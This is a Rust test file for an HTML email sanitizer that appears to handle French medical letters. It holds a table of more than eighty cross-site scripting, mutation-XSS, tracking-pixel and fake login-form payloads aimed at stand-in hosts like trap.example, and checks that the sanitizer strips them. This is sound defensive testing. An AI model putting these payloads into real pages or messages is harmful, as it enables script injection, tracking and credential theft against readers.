//! Payloads of RELIABILITY §2.6, one row each, and the fixpoint.

use proptest::prelude::*;

use super::*;

/// The letter has one picture; identity, so that cleaning twice may be compared.
fn clean(html: &str) -> String {
    sanitize(html, |id| id.starts_with("logo").then(|| format!("cid:{id}"))).to_string()
}

/// Reads every tag of `html` strictly and says what should not be there.
fn dangers(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let Some(end) = rest.find('>') else {
            found.push("a tag without an end".to_owned());
            break;
        };
        let (tag, after) = rest.split_at(end);
        rest = after;
        let (name, attributes) =
            tag.trim_start_matches('/').split_once(' ').unwrap_or((tag.trim_start_matches('/'), ""));
        if !TAGS.contains(&name) {
            found.push(format!("element {name}"));
        }
        let mut attributes = attributes;
        while let Some((attribute, value_and_more)) = attributes.split_once("=\"") {
            let (value, more) = value_and_more.split_once('"').unwrap_or((value_and_more, ""));
            attributes = more.trim_start();
            let right = match attribute.trim() {
                "href" => value.starts_with("https://") || value.starts_with("mailto:"),
                "src" => value.starts_with("cid:logo"),
                "alt" | "dir" | "lang" | "colspan" | "rowspan" | "scope" | "start" => true,
                "target" => value == "_blank",
                "rel" => value == "noopener noreferrer nofollow",
                _ => false,
            };
            if !right {
                found.push(format!("{attribute}={value}"));
            }
        }
        if !attributes.trim().is_empty() {
            found.push(format!("rest of a tag: {attributes}"));
        }
    }
    found
}

/// The same page with what carries no meaning removed: the order of attributes (ammonia's
/// `swap_remove` turns it), and the first line end of a `pre`, which HTML itself drops.
fn settled(html: &str) -> String {
    let tags = html.split('<').map(|piece| match piece.split_once('>') {
        Some((tag, after)) => {
            let mut parts: Vec<&str> = tag.split("\" ").map(|part| part.trim_end_matches('"')).collect();
            let first = parts.remove(0);
            let (name, attribute) = first.split_once(' ').unwrap_or((first, ""));
            parts.push(attribute);
            parts.sort_unstable();
            let after = if name == "pre" { after.trim_start_matches('\n') } else { after };
            format!("{name} {}>{after}", parts.join("|"))
        }
        None => piece.to_owned(),
    });
    tags.collect::<Vec<_>>().join("<")
}

/// Family, payload.
const PAYLOADS: &[(&str, &str)] = &[
    // W-01: SVG and its animations.
    (
        "W-01",
        r#"<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;a href='javascript:alert(1)'&gt;"#,
    ),
    (
        "W-01",
        r#"<svg><animate attributeName="href " values="javascript:alert(1)"/><a id="x"><text>go</text></a></svg>"#,
    ),
    ("W-01", r##"<svg><animate href="#x" attributeName="href" values="javascript:alert(1)"/><a id=x>"##),
    ("W-01", r##"<svg><set href="#x" attributeName="href" to="javascript:alert(1)"/><a id=x>"##),
    ("W-01", r##"<svg><animate attributeName="href" by="javascript:alert(1)" begin="0s"></svg>"##),
    ("W-01", "<svg onload=alert(1)>"),
    ("W-01", "<svg><script>alert(1)</script></svg>"),
    ("W-01", "<svg/onload=alert(1)//"),
    ("W-01", "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>"),
    ("W-01", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>"),
    ("W-01", "<svg><image href=https://trap.example/x.png></svg>"),
    ("W-01", "<svg><style>@import url(https://trap.example)</style></svg>"),
    ("W-01", "<SVG><DiScArD onbegin=alert(1)>"),
    // W-02: what linkifiers and later edits break.
    ("W-02", "https://x.example/\"onmouseover=\"alert(1)"),
    ("W-02", "<p>https://x.example/&quot;&gt;&lt;img src=x onerror=alert(1)&gt;</p>"),
    ("W-02", "<a href=\"https://x.example/&quot; onmouseover=&quot;alert(1)\">x</a>"),
    ("W-02", "<img alt=\"&quot; onerror=alert(1) x=&quot;\" src=cid:logo>"),
    // W-03: mutation.
    ("W-03", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    (
        "W-03",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    ),
    ("W-03", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
    ("W-03", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
    ("W-03", "<template><script>alert(1)</script></template>"),
    ("W-03", "<template><template><img src=x onerror=alert(1)></template>"),
    ("W-03", "<!--><img src=x onerror=alert(1)>-->"),
    ("W-03", "<!-- --!><img src=x onerror=alert(1)> -->"),
    ("W-03", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
    ("W-03", "<math><![CDATA[</math><img src=x onerror=alert(1)>]]>"),
    ("W-03", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">"),
    ("W-03", "<title><img title=\"</title><img src=x onerror=alert(1)>\">"),
    ("W-03", "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\">"),
    ("W-03", "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">"),
    ("W-03", "<plaintext><img src=x onerror=alert(1)>"),
    (
        "W-03",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=alert(1)>\">",
    ),
    ("W-03", "<p><table><p><style></table><img src=x onerror=alert(1)>"),
    ("W-03", "<b><p></b><img src=x onerror=alert(1)></p>"),
    ("W-03", "<a href=https://a.example><table><td><a href=javascript:alert(1)>x"),
    ("W-03", "<annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style>"),
    ("W-03", "<math><annotation-xml encoding=\"text/html\"><p><script>alert(1)</script>"),
    ("W-03", "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>"),
    ("W-03", "<!DOCTYPE html [<!ENTITY x \"<img src=x onerror=alert(1)>\">]>&x;"),
    // W-04: active content put in the body.
    ("W-04", "<object data=\"data:text/html,<script>alert(1)</script>\"></object>"),
    ("W-04", "<embed src=\"javascript:alert(1)\">"),
    ("W-04", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"),
    ("W-04", "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>"),
    ("W-04", "<applet code=x></applet><frameset><frame src=javascript:alert(1)></frameset>"),
    (
        "W-04",
        "<audio src=https://trap.example autoplay onplay=alert(1)></audio><video poster=https://trap.example></video>",
    ),
    // W-05: handlers, whatever the event.
    ("W-05", "<details open ontoggle=alert(1)>x</details>"),
    ("W-05", "<p onclick=alert(1) onmouseover=alert(1) onfocus=alert(1)>x</p>"),
    ("W-05", "<img src=x onerror=alert(1)>"),
    ("W-05", "<img src=\"cid:logo\" onload=\"alert(1)\">"),
    ("W-05", "<body onload=alert(1) onpageshow=alert(1)>x"),
    ("W-05", "<p oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>"),
    ("W-05", "<xss onpointerrawupdate=alert(1)>x</xss>"),
    ("W-05", "<p/onclick=alert(1)>x"),
    ("W-05", "<p\nonclick\n=\nalert(1)>x"),
    ("W-05", "<script>alert(1)</script><scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("W-05", "<SCRIPT SRC=//trap.example/x.js></SCRIPT>"),
    ("W-05", "<input autofocus onfocus=alert(1)>"),
    // W-07: style.
    (
        "W-07",
        "<style>@import 'https://trap.example/x.css'; p{background:url(https://trap.example)}</style><p>x",
    ),
    ("W-07", "<p style=\"position:fixed !important;inset:0;z-index:9999\">Votre session a expiré</p>"),
    ("W-07", "<p style=\"background:url(https://trap.example/x)\">x</p>"),
    ("W-07", "<p style=\"width:expression(alert(1));-moz-binding:url(x)\">x</p>"),
    ("W-07", "<link rel=stylesheet href=https://trap.example/x.css>"),
    ("W-07", "<div class=\"bouton principal\" id=\"contenu\">x</div>"),
    ("W-07", "<p hidden>caché</p><p style=display:none>caché</p>"),
    // W-08: everything that fetches.
    ("W-08", "<img src=\"https://trap.example/pixel.gif\">"),
    ("W-08", "<img src=\"//trap.example/pixel.gif\">"),
    ("W-08", "<img srcset=\"https://trap.example/1x.png 1x, https://trap.example/2x.png 2x\" src=cid:logo>"),
    ("W-08", "<picture><source srcset=https://trap.example/x><img src=https://trap.example/x></picture>"),
    (
        "W-08",
        "<body background=https://trap.example/x><table background=https://trap.example/x><td background=https://trap.example/x>x",
    ),
    (
        "W-08",
        "<link rel=prefetch href=https://trap.example><link rel=dns-prefetch href=//trap.example><link rel=preconnect href=https://trap.example>",
    ),
    ("W-08", "<meta http-equiv=refresh content=\"0;url=https://trap.example\">"),
    ("W-08", "<a href=https://x.example ping=https://trap.example>x</a>"),
    ("W-08", "<input type=image src=https://trap.example/x>"),
    ("W-08", "<p style=\"background:url(https://trap.example/x\">x"),
    ("W-08", "<svg><filter><feImage href=https://trap.example/x /></filter></svg>"),
    ("W-08", "<p style=\"--x:url(https://trap.example);background:var(--x)\">x</p>"),
    ("W-08", "<blockquote cite=https://trap.example/x>x</blockquote><q cite=https://trap.example>x</q>"),
    (
        "W-08",
        "<img src=\"cid:absent\"><img src=\"data:image/svg+xml,<svg onload=alert(1)>\"><img src=\"blob:x\">",
    ),
    (
        "W-08",
        "<img longdesc=https://trap.example lowsrc=https://trap.example dynsrc=https://trap.example src=cid:logo usemap=#x>",
    ),
    (
        "W-08",
        "<track src=https://trap.example><source src=https://trap.example><bgsound src=https://trap.example>",
    ),
    // W-10: links.
    ("W-10", "<a href=\"javascript:alert(1)\">x</a>"),
    ("W-10", "<a href=\"JaVaScRiPt:alert(1)\">x</a>"),
    ("W-10", "<a href=\"java&#x0A;script:alert(1)\">x</a>"),
    ("W-10", "<a href=\"&#106;avascript&colon;alert(1)\">x</a>"),
    ("W-10", "<a href=\" \u{1}javascript:alert(1)\">x</a>"),
    ("W-10", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>"),
    (
        "W-10",
        "<a href=\"vbscript:msgbox(1)\">x</a><a href=\"file:///etc/passwd\">x</a><a href=\"view-source:https://x\">x</a>",
    ),
    (
        "W-10",
        "<a href=\"http://trap.example/\">x</a><a href=\"//trap.example/\">x</a><a href=\"/deconnexion\">x</a><a href=\"?x\">x</a>",
    ),
    (
        "W-10",
        "<a href=\"https://ameli.fr@trap.example/\">ameli.fr</a><a href=\"https://ameli.fr:x@trap.example/\">ameli.fr</a>",
    ),
    ("W-10", "<a href=\"https://x.example\" target=\"_top\" rel=\"opener\" download>x</a>"),
    ("W-10", "<a href=\"tel:+33899\">x</a><a href=\"sms:+33899\">x</a><a href=\"intent://x\">x</a>"),
    ("W-10", "<map name=m><area href=javascript:alert(1)></map><img src=cid:logo usemap=#m>"),
    ("W-10", "<a href=\"mailto:a@b.fr?body=x&attach=/etc/passwd\">x</a><a href=\"mailto:?to=x\">x</a>"),
    // W-11: forms, base, clobbering.
    ("W-11", "<base href=https://trap.example/><a href=x>x</a>"),
    (
        "W-11",
        "<form action=https://trap.example><input name=password type=password autofocus><button>Se connecter</button></form>",
    ),
    (
        "W-11",
        "<button formaction=javascript:alert(1)>x</button><input type=submit formaction=https://trap.example>",
    ),
    ("W-11", "<a id=defaultView></a><img name=cookie src=cid:logo><form id=document name=body>"),
    ("W-11", "<p contenteditable tabindex=1 accesskey=x role=alert aria-label=x draggable=true>x</p>"),
    ("W-11", "<dialog open>x</dialog><p popover id=p>x</p><button popovertarget=p>x</button>"),
    ("W-11", "<p is=x-y slot=z part=q exportparts=r itemprop=s>x</p>"),
    // W-12: what CDA style sheets let through.
    (
        "W-12",
        "<table onmouseover=alert(1) background=javascript:alert(1)><tr><td style=behavior:url(x)>x</table>",
    ),
    ("W-12", "<nonXMLBody><text><reference value=\"javascript:alert(1)\"/></text></nonXMLBody>"),
    // W-15: parts glued.
    ("W-15", "<img src=\"https://trap.example/?"),
    ("W-15", "<a href=\"https://trap.example/?"),
    ("W-15", "<p title='"),
    ("W-15", "<textarea>"),
    ("W-15", "<!--"),
];

#[test]
fn no_payload_gets_through() {
    assert!(PAYLOADS.len() >= 80, "{}", PAYLOADS.len());
    for (family, payload) in PAYLOADS {
        for wrapped in [
            (*payload).to_owned(),
            format!("<p>avant {payload} après</p>"),
            format!("<table><tr><td>{payload}</td></tr></table>"),
            format!("<div>{payload}{payload}</div>"),
        ] {
            let clean = clean(&wrapped);
            assert!(dangers(&clean).is_empty(), "{family} {wrapped}\n→ {clean}\n{:?}", dangers(&clean));
            assert!(!clean.contains("trap.example/pixel"), "{family} {wrapped}\n→ {clean}");
        }
    }
}

#[test]
fn cleaning_a_payload_twice_changes_nothing() {
    for (family, payload) in PAYLOADS {
        let once = clean(payload);
        assert_eq!(settled(&clean(&once)), settled(&once), "{family} {payload}");
    }
}

#[test]
fn what_a_letter_says_is_kept() {
    for (case, html, want) in [
        (
            "words and emphasis",
            "<p>Bonjour <b>Anne</b>,<br>à <i>bientôt</i></p>",
            "<p>Bonjour <b>Anne</b>,<br>à <i>bientôt</i></p>",
        ),
        (
            "a table of results",
            "<table border=1><tr><th scope=col>HbA1c<td colspan=2>6,1&nbsp;%</table>",
            "<table><tbody><tr><th scope=\"col\">HbA1c</th><td colspan=\"2\">6,1&nbsp;%</td></tr></tbody></table>",
        ),
        (
            "a picture of the letter",
            "<img src=\"cid:logo@x\" alt=Logo width=900>",
            "<img src=\"cid:logo@x\" alt=\"Logo\">",
        ),
        (
            "a picture from outside leaves its words",
            "<img src=\"https://t.example/x\" alt=\"Plan d’accès\">",
            "<img alt=\"Plan d’accès\">",
        ),
        (
            "an unknown element leaves its words",
            "<o:p>Cordialement</o:p><font color=red>rouge</font>",
            "Cordialementrouge",
        ),
    ] {
        assert_eq!(clean(html), want, "{case}");
    }
}

#[test]
fn a_link_shows_the_host_it_goes_to() {
    let link = |href: &str| clean(&format!("<a href=\"{href}\">x</a>"));
    assert_eq!(
        link("https://www.ameli.fr/assure"),
        "<a href=\"https://www.ameli.fr/assure\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>"
    );
    assert!(
        link("https://аmeli.fr/").contains("href=\"https://xn--meli-43d.fr/\""),
        "{}",
        link("https://аmeli.fr/")
    );
    assert!(!link("https://ameli.fr@evil.example/").contains("href"));
    assert!(link("mailto:a@b.fr?body=x").contains("href=\"mailto:a@b.fr\""));
}

#[test]
fn trees_that_cost_too_much_are_read_as_words() {
    for (case, html) in [
        ("deep", "<div>".repeat(50_000)),
        ("deep behind closings that close nothing", "<div></p></span>".repeat(50_000)),
        ("formatting opened again by every paragraph", {
            let open: String = (0..3_000).map(|n| format!("<b x={n}>")).collect();
            format!("{open}{}", "<p>a".repeat(20_000))
        }),
        ("nested tables", "<table><tr><td>".repeat(20_000)),
    ] {
        let clean = clean(&format!("{html}bonjour"));
        assert!(clean.contains("bonjour"), "{case}");
        assert!(dangers(&clean).is_empty(), "{case}");
        assert!(clean.len() <= html.len() * 8, "{case}: {}", clean.len());
    }
    let ordinary = "<table><tr><td><div><font>a</font></div></td></tr></table>".repeat(300);
    assert!(cost(&ordinary) < HTML_COST_MAX && clean(&ordinary).contains("<table>"));
}

fn shards() -> impl Strategy<Value = String> {
    let shard = prop::sample::select(vec![
        "<p>",
        "</p>",
        "<div",
        ">",
        "<b>",
        "</b>",
        "<table>",
        "<tr>",
        "<td>",
        "</table>",
        "<svg>",
        "</svg>",
        "<math>",
        "<mtext>",
        "<mglyph>",
        "<style>",
        "</style>",
        "<!--",
        "-->",
        "--!>",
        "<noscript>",
        "</noscript>",
        "<template>",
        "</template>",
        "<a href=\"https://x.example\">",
        "</a>",
        "<a href=javascript:alert(1)>",
        "<img src=cid:logo>",
        "<img src=x onerror=alert(1)>",
        " title=\"",
        "\"",
        "'",
        "=",
        "<![CDATA[",
        "]]>",
        "<script>",
        "</script>",
        "<select>",
        "<option>",
        "<li>",
        "<ul>",
        "<form>",
        "</form>",
        "<textarea>",
        "</textarea>",
        "<title>",
        "</title>",
        "&lt;",
        "&gt;",
        "&amp;",
        "&quot;",
        "&#x0",
        "&colon;",
        "é",
        "\0",
        "\u{2028}",
        "<pre>\n\n",
        "<xmp>",
        "<plaintext>",
        "<annotation-xml encoding=text/html>",
        "<foreignObject>",
        "<desc>",
        "<q dir=rtl>",
        "<ol start=3>",
        "<x ",
        "/",
        "<br/>",
        "mot ",
        "<p onclick=alert(1)>",
        "<caption>",
        "<colgroup>",
        "<h1>",
        "</h2>",
        "<dd>",
        "<center>",
    ]);
    prop::collection::vec(shard, 0..40).prop_map(|shards| shards.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    /// W-03: what a browser reads from our text is what we wrote.
    #[test]
    fn cleaning_twice_is_cleaning_once(html in shards()) {
        let once = clean(&html);
        prop_assert!(dangers(&once).is_empty(), "{:?}", dangers(&once));
        prop_assert_eq!(settled(&clean(&once)), settled(&once));
    }

    #[test]
    fn any_text_is_made_harmless(html in "\\PC{0,200}") {
        let once = clean(&html);
        prop_assert!(dangers(&once).is_empty(), "{:?}", dangers(&once));
    }
}
